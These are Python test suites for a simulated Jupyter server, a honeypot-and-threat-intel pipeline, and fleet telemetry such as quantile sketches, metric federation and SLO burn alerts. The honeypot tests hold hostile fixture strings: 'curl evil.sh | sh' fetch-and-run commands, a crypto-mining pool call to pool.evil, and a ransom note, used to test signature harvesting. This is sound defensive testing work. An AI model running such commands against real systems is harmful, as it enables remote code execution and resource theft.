    client_host = net.add_host("laptop", "10.0.0.2")
    the_tap = net.add_tap() if tap else None
    cfg = config or ServerConfig(ip="0.0.0.0", token=token)
    server = JupyterServer(cfg, net, server_host)
    gateway = ServerGateway(server)
    client = WebSocketKernelClient(client_host, server_host, port=cfg.port, token=token)
    return net, server, gateway, client, the_tap


class TestRest:
    def test_api_version_is_public(self):
        _, _, _, client, _ = make_world()
        client.token = ""  # no creds
        assert client.json("GET", "/api")["version"]

    def test_status_requires_auth(self):
        _, _, _, client, _ = make_world()
        client.token = "wrong"
        resp = client.request("GET", "/api/status")
        assert resp.status == 403

    def test_status_with_token(self):
        _, _, _, client, _ = make_world()
        assert client.json("GET", "/api/status")["started"] is True

    def test_contents_crud_over_network(self):
        _, server, _, client, _ = make_world()
        created = client.json("PUT", "/api/contents/exp/notes.txt",
                              {"type": "file", "content": "results"})
        assert created["path"] == "exp/notes.txt"
        got = client.json("GET", "/api/contents/exp/notes.txt")
        assert got["content"] == "results"
        resp = client.request("DELETE", "/api/contents/exp/notes.txt")
        assert resp.status == 204
        assert client.request("GET", "/api/contents/exp/notes.txt").status == 404

    def test_contents_patch_rename(self):
        _, _, _, client, _ = make_world()
        client.json("PUT", "/api/contents/a.txt", {"type": "file", "content": "1"})
        moved = client.json("PATCH", "/api/contents/a.txt", {"path": "b.txt"})
        assert moved["path"] == "b.txt"

    def test_kernel_lifecycle_rest(self):
        _, server, _, client, _ = make_world()
        kid = client.json("POST", "/api/kernels")["id"]
        listing = client.json("GET", "/api/kernels")
        assert [k["id"] for k in listing] == [kid]
        assert client.request("POST", f"/api/kernels/{kid}/interrupt").status == 204
        assert client.json("POST", f"/api/kernels/{kid}/restart")["id"] == kid
        assert client.request("DELETE", f"/api/kernels/{kid}").status == 204
        assert client.json("GET", "/api/kernels") == []

    def test_unknown_kernel_404(self):
        _, _, _, client, _ = make_world()
        assert client.request("GET", "/api/kernels/nope").status == 404

    def test_terminal_over_rest(self):
        _, _, _, client, _ = make_world()
        name = client.json("POST", "/api/terminals")["name"]
        out = client.json("POST", f"/api/terminals/{name}/run")
        client.json("PUT", "/api/contents/f.txt", {"type": "file", "content": "data"})
        resp = client.request("POST", f"/api/terminals/{name}/run", b"cat f.txt")
        assert json.loads(resp.body)["output"] == "data"

    def test_terminals_can_be_disabled(self):
        cfg = ServerConfig(ip="0.0.0.0", token="tok", terminals_enabled=False)
        _, _, _, client, _ = make_world(config=cfg)
        assert client.request("POST", "/api/terminals").status == 403

    def test_rate_limiting(self):
        cfg = ServerConfig(ip="0.0.0.0", token="tok",
                           rate_limit_window_seconds=60, rate_limit_max_requests=5)
        _, _, _, client, _ = make_world(config=cfg)
        statuses = [client.request("GET", "/api/status").status for _ in range(8)]
        assert statuses[:5] == [200] * 5
        assert 429 in statuses[5:]

    def test_access_log_populated(self):
        _, server, _, client, _ = make_world()
        client.request("GET", "/api/status")
        assert server.access_log
        entry = server.access_log[-1]
        assert entry.source_ip == "10.0.0.2"
        assert entry.path == "/api/status"
        assert entry.status == 200


class TestWebSocketExecution:
    def test_execute_roundtrip(self):
        net, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("21 * 2")
        assert reply is not None
        assert reply.content["status"] == "ok"
        results = [m for m in client.iopub if m.msg_type == "execute_result"]
        assert results and results[0].content["data"]["text/plain"] == "42"

    def test_stream_output(self):
        _, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("print('over the wire')")
        streams = [m for m in client.iopub if m.msg_type == "stream"]
        assert streams[0].content["text"] == "over the wire\n"

    def test_busy_idle_bracketing(self):
        _, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("1")
        states = [m.content["execution_state"] for m in client.iopub if m.msg_type == "status"]
        assert states[0] == "busy" and states[-1] == "idle"

    def test_state_persists_across_cells(self):
        _, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("x = 10")
        reply = client.execute("x + 5")
        results = [m for m in client.iopub if m.msg_type == "execute_result"]
        assert results[-1].content["data"]["text/plain"] == "15"

    def test_error_propagates(self):
        _, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("1/0")
        assert reply.content["status"] == "error"
        errors = [m for m in client.iopub if m.msg_type == "error"]
        assert errors[0].content["ename"] == "ZeroDivisionError"

    def test_upgrade_requires_auth(self):
        net, server, _, client, _ = make_world()
        client.start_kernel()
        client.token = "stolen-wrong"
        with pytest.raises(Exception):
            client.connect_channels()

    def test_upgrade_unknown_kernel_404(self):
        _, _, _, client, _ = make_world()
        client.kernel_id = "nonexistent"
        with pytest.raises(Exception):
            client.connect_channels()

    def test_cell_side_effects_reach_contents_api(self):
        """Code executed via WS writes files visible over REST — shared world."""
        _, server, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("f = open('produced.txt', 'w')\nf.write('artifact')\nf.close()")
        model = client.json("GET", "/api/contents/produced.txt")
        assert model["content"] == "artifact"

    def test_execution_takes_simulated_time(self):
        net, _, _, client, _ = make_world()
        client.start_kernel()
        client.connect_channels()
        t0 = net.loop.clock.now()
        client.execute("total = 0\nfor i in range(200000):\n    total += 1")
        # >= 200k ops at 1e6 ops/sec -> at least 0.2 simulated seconds.
        assert net.loop.clock.now() - t0 > 0.2


class TestTapVisibility:
    def test_tap_sees_all_three_protocols(self):
        net, server, _, client, tap = make_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("sum(range(10))")
        blob = b"".join(s.payload for s in tap.segments)
        assert b"HTTP/1.1 101" in blob                      # websocket upgrade
        assert b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f" in blob  # ZMTP greeting
        assert b"<IDS|MSG>" in blob                          # jupyter wire protocol
        assert b"execute_request" in blob

    def test_zmtp_ports_are_loopback_only(self):
        net, server, _, client, _ = make_world()
        client.start_kernel()
        binding = next(iter(server.kernel_bindings.values()))
        from repro.util.errors import ReproError

        attacker = net.add_host("attacker", "6.6.6.6")
        with pytest.raises(ReproError, match="refused"):
            attacker.connect(server.host, binding.ports[list(binding.ports)[0]])
