"""Tests for honeypots, harvesting, threat intel, and the fleet."""

import pytest

from repro.honeypot import (
    DecoyJupyterServer,
    HoneypotFleet,
    Indicator,
    SignatureHarvester,
    ThreatIntelFeed,
)
from repro.honeypot.decoy import InteractionRecord
from repro.monitor.signatures import Signature, SignatureEngine
from repro.simnet import Network
from repro.taxonomy.oscrp import Avenue
from repro.wire.http import HttpRequest, parse_response


def make_decoy(interaction="high"):
    net = Network(default_latency=0.001)
    hp_host = net.add_host("edge-hp", "172.16.0.5")
    attacker = net.add_host("attacker", "203.0.113.66")
    decoy = DecoyJupyterServer(net, hp_host, name="edge-1", interaction=interaction)
    return net, decoy, hp_host, attacker


def http_get(net, src, dst, port, path, body=b"", method="GET"):
    conn = src.connect(dst, port)
    responses = []
    buf = b""

    def on_data(data):
        nonlocal buf
        buf += data
        resp, rest = parse_response(buf)
        if resp:
            responses.append(resp)
            buf = rest

    conn.on_data_client = on_data
    conn.send_to_server(HttpRequest(method, path, {"Host": dst.ip}, body).encode())
    net.run(1.0)
    return responses[0] if responses else None


class TestDecoy:
    def test_low_interaction_answers_fingerprint(self):
        net, decoy, hp_host, attacker = make_decoy("low")
        resp = http_get(net, attacker, hp_host, 8888, "/api")
        assert resp is not None and resp.status == 200
        assert b"version" in resp.body
        assert decoy.records and decoy.records[0].kind == "http"
        assert decoy.attacker_ips() == ["203.0.113.66"]

    def test_low_interaction_404s_everything_else(self):
        net, decoy, hp_host, attacker = make_decoy("low")
        resp = http_get(net, attacker, hp_host, 8888, "/api/contents/")
        assert resp.status == 404

    def test_high_interaction_serves_bait(self):
        net, decoy, hp_host, attacker = make_decoy("high")
        resp = http_get(net, attacker, hp_host, 8888, "/api/contents/")
        assert resp.status == 200  # insecure demo config: open access
        assert b"analysis" in resp.body or b"data" in resp.body

    def test_high_interaction_records_http(self):
        net, decoy, hp_host, attacker = make_decoy("high")
        http_get(net, attacker, hp_host, 8888, "/api/contents/data/clinical_trial_results.csv")
        paths = [r.content for r in decoy.records if r.kind == "http"]
        assert any("clinical_trial_results" in p for p in paths)

    def test_high_interaction_records_cells(self):
        net, decoy, hp_host, attacker = make_decoy("high")
        import json

        resp = http_get(net, attacker, hp_host, 8888, "/api/kernels", method="POST")
        kid = json.loads(resp.body)["id"]
        # Drive a cell through the kernel via the recorded hook path.
        kernel = decoy.server.kernels[kid]
        from repro.messaging import Session

        kernel.handle(Session(decoy.config.session_key).execute_request(
            "import os; os.system('curl evil.sh | sh')"))
        assert any("curl evil.sh" in c for c in decoy.cells_observed())

    def test_invalid_interaction_mode(self):
        net = Network()
        host = net.add_host("h", "1.2.3.4")
        with pytest.raises(ValueError):
            DecoyJupyterServer(net, host, interaction="medium")


class TestHarvester:
    def rec(self, content, kind="cell", hp="edge-1", ts=0.0):
        return InteractionRecord(ts=ts, honeypot=hp, source_ip="203.0.113.66",
                                 kind=kind, content=content)

    def test_hostile_structure_single_observation(self):
        h = SignatureHarvester()
        sigs = h.harvest([self.rec("s.send('stratum+tcp://pool.evil:3333')")])
        assert len(sigs) == 1
        assert sigs[0].avenue == Avenue.CRYPTOMINING
        assert sigs[0].source == "honeypot:edge-1"

    def test_recurring_lines_harvested(self):
        h = SignatureHarvester(min_recurrence=2)
        payload = "payload_stage2 = decode_and_run('QUJDREVGR0g')"
        sigs = h.harvest([self.rec(payload), self.rec(payload, ts=5.0)])
        assert any("recurred" in s.description for s in sigs)

    def test_single_benignish_line_not_harvested(self):
        h = SignatureHarvester(min_recurrence=2)
        assert h.harvest([self.rec("x = load_data('file.csv')")]) == []

    def test_benign_calibration_veto(self):
        h = SignatureHarvester(min_recurrence=1)
        # 'import hashlib' appears in the benign corpus — must not be signatured.
        sigs = h.harvest([self.rec("import hashlib"), self.rec("import hashlib")])
        assert all("hashlib" not in s.pattern for s in sigs)

    def test_harvested_signatures_actually_match(self):
        h = SignatureHarvester()
        sigs = h.harvest([self.rec("os.system('curl http://evil/m.sh | sh')", kind="terminal")])
        assert sigs
        assert sigs[0].matches("curl http://evil/m.sh | sh")

    def test_ransom_note_harvested(self):
        h = SignatureHarvester()
        sigs = h.harvest([self.rec("note = 'Your files have been encrypted. pay 1 btc'")])
        assert any(s.avenue == Avenue.RANSOMWARE for s in sigs)


class TestThreatIntel:
    def make_indicator(self, iid="ind-1", pattern="evil_pattern"):
        return Indicator(indicator_id=iid, indicator_type="content-signature",
                         pattern=pattern, description="test", confidence=0.9,
                         source="honeypot:edge-1", created=100.0, avenue="crypto-mining")

    def test_publish_dedup(self):
        feed = ThreatIntelFeed()
        assert feed.publish(self.make_indicator())
        assert not feed.publish(self.make_indicator())
        assert feed.published_count == 1

    def test_subscribe_replay(self):
        feed = ThreatIntelFeed()
        feed.publish(self.make_indicator())
        seen = []
        feed.subscribe(seen.append, replay=True)
        assert len(seen) == 1

    def test_engine_subscription_installs_rules(self):
        feed = ThreatIntelFeed()
        engine = SignatureEngine(signatures=[])
        feed.subscribe_engine(engine)
        feed.publish(self.make_indicator())
        assert len(engine.signatures) == 1
        assert engine.signatures[0].source == "intel:honeypot:edge-1"
        assert engine.signatures[0].avenue == Avenue.CRYPTOMINING

    def test_low_confidence_filtered(self):
        feed = ThreatIntelFeed()
        engine = SignatureEngine(signatures=[])
        feed.subscribe_engine(engine, min_confidence=0.95)
        feed.publish(self.make_indicator())
        assert engine.signatures == []

    def test_jsonl_roundtrip(self):
        feed = ThreatIntelFeed()
        feed.publish(self.make_indicator("ind-a", "p1"))
        feed.publish(self.make_indicator("ind-b", "p2"))
        restored = ThreatIntelFeed.import_jsonl(feed.export_jsonl())
        assert set(restored.indicators) == {"ind-a", "ind-b"}

    def test_expiry(self):
        feed = ThreatIntelFeed()
        ind = self.make_indicator()
        ind = Indicator(**{**ind.__dict__, "valid_until": 200.0})
        feed.publish(ind)
        assert feed.active(now=150.0)
        assert not feed.active(now=300.0)

    def test_signature_indicator_roundtrip(self):
        sig = Signature("SIG-X", "desc", "jupyter-code", r"bad_stuff",
                        avenue=Avenue.RANSOMWARE, source="honeypot:e1")
        ind = Indicator.from_signature(sig, created=5.0)
        back = ind.to_signature()
        assert back.pattern == sig.pattern
        assert back.avenue == Avenue.RANSOMWARE


class TestFleet:
    def test_deploy_and_harvest_pipeline(self):
        net = Network(default_latency=0.001)
        attacker = net.add_host("attacker", "203.0.113.66")
        fleet = HoneypotFleet(net, harvest_interval=30.0)
        decoy = fleet.deploy("edge-1", "172.16.0.5")
        # Attacker hits the decoy with a miner payload via a kernel cell.
        decoy.records.append(InteractionRecord(
            ts=1.0, honeypot="edge-1", source_ip=attacker.ip, kind="cell",
            content="s.send('stratum+tcp://pool.evil:3333')"))
        report = fleet.harvest_now()
        assert report.new_signatures == 1
        assert fleet.feed.indicators

    def test_harvest_is_idempotent(self):
        net = Network()
        fleet = HoneypotFleet(net)
        decoy = fleet.deploy("edge-1", "172.16.0.5")
        decoy.records.append(InteractionRecord(
            ts=1.0, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
            content="s.send('stratum+tcp://pool.evil:3333')"))
        fleet.harvest_now()
        report2 = fleet.harvest_now()
        assert report2.new_signatures == 0

    def test_scheduled_harvesting(self):
        net = Network()
        fleet = HoneypotFleet(net, harvest_interval=10.0)
        decoy = fleet.deploy("edge-1", "172.16.0.5")
        decoy.records.append(InteractionRecord(
            ts=0.5, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
            content="s.send('stratum+tcp://pool.evil:3333')"))
        fleet.schedule_harvesting(horizon=35.0)
        net.run(35.0)
        assert len(fleet.reports) == 3
        assert fleet.feed.indicators

    def test_lead_time_positive_when_honeypot_first(self):
        net = Network()
        fleet = HoneypotFleet(net)
        decoy = fleet.deploy("edge-1", "172.16.0.5")
        decoy.records.append(InteractionRecord(
            ts=1.0, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
            content="s.send('stratum+tcp://pool.evil:3333')"))
        net.loop.clock.advance(5.0)
        fleet.harvest_now()  # published at t=5
        lead = fleet.lead_time("stratum", production_hit_ts=300.0)
        assert lead == pytest.approx(295.0)

    def test_lead_time_none_when_unseen(self):
        net = Network()
        fleet = HoneypotFleet(net)
        assert fleet.lead_time("neverseen", 100.0) is None
