"""Tests for the fleet-grade observability layer: mergeable quantile
sketches, cross-shard metric federation, the deterministic sim-time
profiler, SLO burn-rate alerts feeding the SOC, timeline merge
tie-breaks, and exporter schema versioning."""

import bisect
import json
import math
import random
from types import SimpleNamespace

import pytest

from repro.telemetry import EventTimeline, MetricsRegistry, Tracer, merge_timelines
from repro.telemetry.exporters import (
    SCHEMA_VERSION,
    TIMELINE_REQUIRED_KEYS,
    render_metrics_jsonl,
    render_prometheus,
    render_timeline_jsonl,
    validate_jsonl,
    validate_prometheus,
    validate_schema_version,
)
from repro.telemetry.federation import FederatedScraper, shard_views
from repro.telemetry.profiler import Profiler
from repro.telemetry.registry import DEFAULT_BUCKETS, Histogram
from repro.telemetry.sketch import DEFAULT_ALPHA, QuantileSketch
from repro.telemetry.slo import (
    DEFAULT_SLOS,
    SHAPING_DELAY_SLO,
    SloEvaluator,
    SloSpec,
    burn_rate,
)


def _true_quantile(values, q):
    """The sketch's rank convention: rank = max(1, ceil(q * n))."""
    ordered = sorted(values)
    rank = max(1, math.ceil(q * len(ordered)))
    return ordered[rank - 1]


# -- quantile sketch ----------------------------------------------------------

class TestQuantileSketch:
    QS = (0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 0.999)

    def adversarial_distributions(self):
        rng = random.Random(20240501)
        yield "uniform", [rng.uniform(0.001, 10.0) for _ in range(5000)]
        yield "heavy-tail", [math.exp(rng.gauss(0.0, 3.0)) for _ in range(5000)]
        yield "nine-decades", [10.0 ** rng.uniform(-4, 5) for _ in range(5000)]
        yield "all-equal", [0.125] * 1000
        yield "two-point", [1e-6] * 500 + [1e6] * 500
        yield "integers", [float(rng.randrange(1, 50)) for _ in range(3000)]

    def test_relative_error_bound_on_adversarial_distributions(self):
        for label, values in self.adversarial_distributions():
            sk = QuantileSketch()
            for v in values:
                sk.add(v)
            for q in self.QS:
                truth = _true_quantile(values, q)
                est = sk.quantile(q)
                rel = abs(est - truth) / truth
                assert rel <= DEFAULT_ALPHA + 1e-12, (
                    f"{label}: q={q} est={est} truth={truth} rel={rel}")

    def test_merge_equals_union_stream(self):
        """N per-shard sketches merged == one sketch over the union
        stream — the exactness property federation depends on."""
        rng = random.Random(99)
        shards = [[math.exp(rng.gauss(0.0, 2.0)) for _ in range(700)]
                  for _ in range(5)]
        union = QuantileSketch()
        merged = QuantileSketch()
        for stream in shards:
            per_shard = QuantileSketch()
            for v in stream:
                per_shard.add(v)
                union.add(v)
            merged.merge(per_shard)
        assert merged == union
        assert merged.quantiles(self.QS) == union.quantiles(self.QS)
        assert merged.sum == pytest.approx(union.sum)

    def test_merge_is_order_independent(self):
        rng = random.Random(7)
        parts = []
        for _ in range(4):
            sk = QuantileSketch()
            for _ in range(300):
                sk.add(rng.uniform(0.01, 100.0))
            parts.append(sk)
        fwd, rev = QuantileSketch(), QuantileSketch()
        for sk in parts:
            fwd.merge(sk)
        for sk in reversed(parts):
            rev.merge(sk)
        assert fwd == rev

    def test_merge_alpha_mismatch_raises(self):
        a = QuantileSketch(alpha=0.01)
        b = QuantileSketch(alpha=0.02)
        with pytest.raises(ValueError, match="different alpha"):
            a.merge(b)

    def test_negative_value_raises(self):
        with pytest.raises(ValueError, match="non-negative"):
            QuantileSketch().add(-1.0)

    def test_zero_values_use_the_zero_bucket(self):
        sk = QuantileSketch()
        for _ in range(90):
            sk.add(0.0)
        for _ in range(10):
            sk.add(5.0)
        assert sk.zero_count == 90
        assert sk.quantile(0.5) == 0.0
        assert sk.quantile(0.99) == pytest.approx(5.0, rel=DEFAULT_ALPHA)

    def test_collapse_bounds_buckets_and_preserves_count(self):
        sk = QuantileSketch(max_buckets=8)
        values = [10.0 ** e for e in range(-6, 7)] * 5
        for v in values:
            sk.add(v)
        assert sk.bucket_count() <= 8
        assert sk.collapsed > 0
        assert sk.count == len(values)
        # Collapse folds the *lowest* buckets: the top stays accurate.
        assert sk.quantile(0.99) == pytest.approx(1e6, rel=DEFAULT_ALPHA)

    def test_tiny_max_buckets_rejected(self):
        with pytest.raises(ValueError, match="max_buckets"):
            QuantileSketch(max_buckets=4)


# -- histogram fixed-bucket parity -------------------------------------------

class TestHistogramParity:
    def test_fixed_bucket_export_matches_legacy_bisect_exactly(self):
        """The sketch backing must not move the Prometheus export: the
        per-bound counters, sum, and count match an independent bisect
        reimplementation bit-for-bit (both accumulate in the same
        order, so 1 ULP means exact equality here)."""
        rng = random.Random(31337)
        values = [rng.uniform(0.0001, 400.0) for _ in range(4000)]
        hist = Histogram(DEFAULT_BUCKETS)
        legacy_counts = [0] * (len(DEFAULT_BUCKETS) + 1)
        legacy_sum = 0.0
        for v in values:
            hist.observe(v)
            legacy_counts[bisect.bisect_left(DEFAULT_BUCKETS, v)] += 1
            legacy_sum += v
        assert hist.counts == legacy_counts
        assert hist.sum == legacy_sum
        assert hist.count == len(values)

    def test_prometheus_export_is_a_function_of_the_fixed_counters(self):
        """Two histograms with equal fixed-bound counters but different
        sketch states render identical scrapes — the sketch never leaks
        into the export."""
        reg_a, reg_b = MetricsRegistry(), MetricsRegistry()
        fam_a = reg_a.histogram("lat_seconds", "x", buckets=(0.1, 1.0))
        fam_b = reg_b.histogram("lat_seconds", "x", buckets=(0.1, 1.0))
        for v in (0.05, 0.5, 2.0):
            fam_a.observe(v)
            fam_b.observe(v)
        # Perturb b's sketch only (as a federated merge_delta would).
        fam_b._default().sketch.merge_delta({3: 2}, 1, 3, 0.7)
        assert render_prometheus(reg_a) == render_prometheus(reg_b)

    def test_quantile_reads_the_sketch(self):
        hist = Histogram(DEFAULT_BUCKETS)
        rng = random.Random(5)
        values = [rng.uniform(0.01, 2.0) for _ in range(2000)]
        for v in values:
            hist.observe(v)
        assert hist.quantile(0.5) == pytest.approx(
            _true_quantile(values, 0.5), rel=DEFAULT_ALPHA)

    def test_merge_from_grid_mismatch_raises(self):
        a = Histogram((0.1, 1.0))
        b = Histogram((0.5, 5.0))
        with pytest.raises(ValueError, match="different bounds"):
            a.merge_from(b)


# -- federation ---------------------------------------------------------------

def _shard_registry(requests=0, latencies=()):
    reg = MetricsRegistry()
    c = reg.counter("requests_total", "reqs")
    if requests:
        c.inc(requests)
    h = reg.histogram("latency_seconds", "lat", buckets=(0.1, 1.0, 10.0))
    for v in latencies:
        h.observe(v)
    return reg


class TestFederation:
    def test_rescrape_of_idle_shard_adds_nothing(self):
        reg = _shard_registry(requests=10, latencies=(0.5, 2.0))
        fed = FederatedScraper()
        fed.scrape("s0", reg)
        fed.scrape("s0", reg)
        assert fed.fleet.get("requests_total")._children[("s0",)].value == 10
        hist = fed.fleet.get("latency_seconds")._children[("s0",)]
        assert hist.count == 2 and hist.sketch.count == 2

    def test_incremental_scrape_folds_only_the_delta(self):
        reg = _shard_registry(requests=10, latencies=(0.5,))
        fed = FederatedScraper()
        fed.scrape("s0", reg)
        reg.get("requests_total")._default().inc(5)
        reg.get("latency_seconds")._default().observe(3.0)
        fed.scrape("s0", reg)
        assert fed.fleet.get("requests_total")._children[("s0",)].value == 15
        hist = fed.fleet.get("latency_seconds")._children[("s0",)]
        assert hist.count == 2
        assert hist.sum == pytest.approx(3.5)
        assert hist.sketch.count == 2

    def test_counter_restart_counts_the_whole_new_value(self):
        fed = FederatedScraper()
        fed.scrape("s0", _shard_registry(requests=10))
        # The shard restarts: a fresh registry whose counter is below
        # the cursor.  Its whole value is new evidence.
        fed.scrape("s0", _shard_registry(requests=3))
        assert fed.fleet.get("requests_total")._children[("s0",)].value == 13

    def test_histogram_restart_starts_a_fresh_epoch(self):
        fed = FederatedScraper()
        fed.scrape("s0", _shard_registry(latencies=(0.5, 0.5, 0.5)))
        fed.scrape("s0", _shard_registry(latencies=(2.0,)))
        hist = fed.fleet.get("latency_seconds")._children[("s0",)]
        assert hist.count == 4
        assert hist.sketch.count == 4

    def test_shard_label_is_appended(self):
        reg = MetricsRegistry()
        reg.counter("hits_total", "hits", labels=("code",)) \
            .labels(code="200").inc(7)
        fed = FederatedScraper()
        fed.scrape("east", reg)
        fam = fed.fleet.get("hits_total")
        assert fam.labelnames == ("code", "shard")
        (sample,) = fam.samples()
        assert dict(sample.labels) == {"code": "200", "shard": "east"}

    def test_cardinality_budget_drops_and_counts(self):
        reg = MetricsRegistry()
        fam = reg.counter("hits_total", "hits", labels=("code",))
        for code in ("200", "301", "403", "404", "500"):
            fam.labels(code=code).inc()
        fed = FederatedScraper(max_series=3)
        fed.scrape("s0", reg)
        assert fed.series == 3
        assert fed.dropped_series == 2
        # The budget alarm is a meta-family, exempt from its own budget.
        meta = fed.fleet.get("federation_dropped_series_total")
        assert meta.samples()[0].value == 2

    def test_fleet_quantiles_match_the_union_sketch(self):
        rng = random.Random(404)
        streams = {f"s{i}": [rng.uniform(0.01, 5.0) for _ in range(400)]
                   for i in range(3)}
        union = QuantileSketch()
        fed = FederatedScraper()
        for shard, values in streams.items():
            reg = _shard_registry(latencies=values)
            fed.scrape(shard, reg)
            for v in values:
                union.add(v)
        fleet = fed.fleet_quantiles("latency_seconds", qs=(0.5, 0.99))
        assert fleet["p50"] == union.quantile(0.5)
        assert fleet["p99"] == union.quantile(0.99)
        per_shard = fed.shard_quantile("latency_seconds", 0.99)
        assert set(per_shard) == set(streams)

    def test_unknown_family_raises(self):
        with pytest.raises(KeyError, match="no federated histogram family"):
            FederatedScraper().fleet_quantiles("nope_seconds")

    def test_shard_views_split_a_shared_registry(self):
        reg = MetricsRegistry()
        fam = reg.counter("req_total", "reqs", labels=("proxy",))
        fam.labels(proxy="hub0").inc(4)
        fam.labels(proxy="hub1").inc(9)
        reg.counter("shared_total", "not per-shard").inc(100)
        views = shard_views(reg, label="proxy")
        assert sorted(views) == ["hub0", "hub1"]
        fed = FederatedScraper()
        fed.scrape_all(views)
        fleet_fam = fed.fleet.get("req_total")
        # The proxy label is dropped; the scraper re-adds it as shard=.
        assert fleet_fam.labelnames == ("shard",)
        values = {dict(s.labels)["shard"]: s.value
                  for s in fleet_fam.samples()}
        assert values == {"hub0": 4, "hub1": 9}
        # Label-less families are shared state, never federated.
        assert fed.fleet.get("shared_total") is None


# -- profiler -----------------------------------------------------------------

class TestProfiler:
    def test_collapsed_stack_output_is_deterministic(self):
        prof = Profiler()
        prof.account(("hot", "a", "b"), 3)
        prof.account(("hot", "a"), 2)
        prof.account(("hot", "a", "b"), 1)
        assert prof.collapsed("units") == "hot;a 2\nhot;a;b 4\n"
        assert prof.top_self("units") == [("b", 4), ("a", 2)]

    def test_unknown_weight_raises(self):
        prof = Profiler()
        prof.account(("hot", "x"))
        with pytest.raises(ValueError, match="unknown flamegraph weight"):
            prof.collapsed("cycles")

    def test_ingest_spans_computes_self_time(self):
        tracer = Tracer()
        root = tracer.start_span("world.run", ts=0.0)
        child = tracer.start_span("proxy.request", parent=root.ctx, ts=1.0)
        child.finish(3.0)
        root.finish(10.0)
        tracer.start_span("unfinished", ts=4.0)  # skipped: no end
        prof = Profiler()
        assert prof.ingest_spans(tracer) == 2
        # Root self-time = 10 − (3 − 1) = 8 s; child = 2 s (integer µs).
        assert prof.collapsed("sim") == (
            "sim;world.run 8000000\n"
            "sim;world.run;proxy.request 2000000\n")

    def test_wall_probe_samples_every_nth_call(self):
        prof = Profiler(wall_sample_interval=4)
        probes = [prof.wall_probe() for _ in range(8)]
        assert probes[:3] == [0.0, 0.0, 0.0] and probes[3] > 0.0
        assert probes[4:7] == [0.0, 0.0, 0.0] and probes[7] > 0.0

    def test_wall_weight_is_excluded_from_deterministic_exports(self):
        prof = Profiler()
        prof.account(("hot", "x"), 5)
        # No wall samples were taken: the wall view is empty while the
        # units view carries the work.
        assert prof.collapsed("wall") == ""
        assert prof.collapsed("units") == "hot;x 5\n"


# -- SLO burn rates -----------------------------------------------------------

def _delay_registry():
    reg = MetricsRegistry()
    fam = reg.histogram("proxy_response_delay_seconds", "shaping delay",
                        buckets=(0.25, 1.0))
    return reg, fam


class TestSloBurn:
    def test_burn_rate_math(self):
        assert burn_rate(99, 1, objective=0.99) == pytest.approx(1.0)
        assert burn_rate(98, 2, objective=0.99) == pytest.approx(2.0)
        assert burn_rate(0, 0, objective=0.99) == 0.0
        assert burn_rate(0, 10, objective=0.90) == pytest.approx(10.0)

    def test_spec_validation(self):
        with pytest.raises(ValueError, match="kind"):
            SloSpec(name="x", kind="availability")
        with pytest.raises(ValueError, match="objective"):
            SloSpec(name="x", kind="action_lead", objective=1.0)
        with pytest.raises(ValueError, match="fast <= slow"):
            SloSpec(name="x", kind="action_lead",
                    fast_window=120.0, slow_window=20.0)
        with pytest.raises(ValueError, match="burn_threshold"):
            SloSpec(name="x", kind="action_lead", burn_threshold=0.0)
        with pytest.raises(ValueError, match="histogram family"):
            SloSpec(name="x", kind="latency")
        with pytest.raises(ValueError, match="good/bad"):
            SloSpec(name="x", kind="drop_ratio")
        with pytest.raises(ValueError, match="target"):
            SloSpec(name="x", kind="action_lead", target=0.0)

    def test_latency_target_must_be_a_declared_bucket_bound(self):
        reg = MetricsRegistry()
        reg.histogram("lat_seconds", "x", buckets=(0.1, 0.5)).observe(0.2)
        spec = SloSpec(name="lat", kind="latency", family="lat_seconds",
                       target=0.25, objective=0.99)
        ev = SloEvaluator((spec,), reg)
        with pytest.raises(ValueError, match="not a bucket bound"):
            ev.evaluate(1.0)

    def test_burn_fires_renotifies_and_recovers(self):
        reg, fam = _delay_registry()
        spec = SloSpec(name="shape", kind="latency",
                       family="proxy_response_delay_seconds", target=0.25,
                       objective=0.90, fast_window=20.0, slow_window=60.0,
                       burn_threshold=2.0, renotify=60.0)
        ev = SloEvaluator((spec,), reg)

        for _ in range(50):
            fam.observe(0.5)  # bad: over the 250 ms bound
        (notice,) = ev.evaluate(10.0)  # cold start: full-history burn
        assert notice.name == "SLO_BURN" and notice.severity == "high"
        assert notice.src == "slo:shape"
        assert notice.detail["tenant"] == "-"
        assert notice.detail["fast_burn"] >= 2.0

        for _ in range(50):
            fam.observe(0.5)
        assert ev.evaluate(15.0) == []  # renotify window still open

        for _ in range(50):
            fam.observe(0.5)
        (again,) = ev.evaluate(80.0)  # still burning, cooldown elapsed
        assert again.name == "SLO_BURN"
        assert ev.notices_emitted == 2

        for _ in range(500):
            fam.observe(0.1)  # recovery: fast window goes clean
        assert ev.evaluate(150.0) == []
        (row,) = ev.report()
        assert row["slo"] == "shape" and row["burns"] == 2
        assert row["fast_burn"] < 2.0

    def test_drop_ratio_kind_reads_counter_pair(self):
        reg = MetricsRegistry()
        reg.counter("monitor_segments_total", "kept").inc(90)
        reg.counter("monitor_segments_dropped_total", "lost").inc(10)
        spec = [s for s in DEFAULT_SLOS if s.kind == "drop_ratio"][0]
        ev = SloEvaluator((spec,), reg)
        (notice,) = ev.evaluate(5.0)
        assert notice.src == f"slo:{spec.name}"
        assert notice.detail["kind"] == "drop_ratio"

    def test_action_lead_kind_reads_incidents(self):
        spec = [s for s in DEFAULT_SLOS if s.kind == "action_lead"][0]
        incidents = [
            SimpleNamespace(opened=0.0, actions=[
                SimpleNamespace(ts=30.0, ok=True, dry_run=False)]),
            SimpleNamespace(opened=0.0, actions=[
                SimpleNamespace(ts=500.0, ok=True, dry_run=False)]),
            SimpleNamespace(opened=0.0, actions=[]),  # unactioned: ignored
        ]
        ev = SloEvaluator((spec,), MetricsRegistry())
        ev.attach_incidents(lambda: incidents)
        (notice,) = ev.evaluate(5.0)  # 1 good / 1 bad vs a 90% objective
